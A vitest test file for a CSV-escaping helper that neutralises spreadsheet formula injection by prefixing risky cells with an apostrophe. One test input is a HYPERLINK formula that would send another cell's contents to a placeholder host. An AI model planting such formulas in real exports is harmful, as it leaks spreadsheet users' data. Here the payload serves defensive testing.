import { expect, test } from 'vitest';
import { csvCell, csvLine } from '../src/lib/csv-cell.ts';

test('what a spreadsheet would work out is text; numbers and identifiers stay as they are', () => {
  expect(csvCell('=HYPERLINK("http://x/?"&A2,"Lê Lợi 12")')).toBe(
    `"'=HYPERLINK(""http://x/?""&A2,""Lê Lợi 12"")"`,
  );
  expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
  expect(csvCell(-0.031)).toBe('-0.031');
  expect(csvCell(null)).toBe('');
  expect(csvCell('19 Lê Lợi, Hạ Long')).toBe('"19 Lê Lợi, Hạ Long"');
  const row: Readonly<Record<string, unknown>> = { device_id: '-7', address: '-7' };
  expect(csvLine(['device_id', 'address'], (name) => row[name])).toBe("-7,'-7\r\n");
});
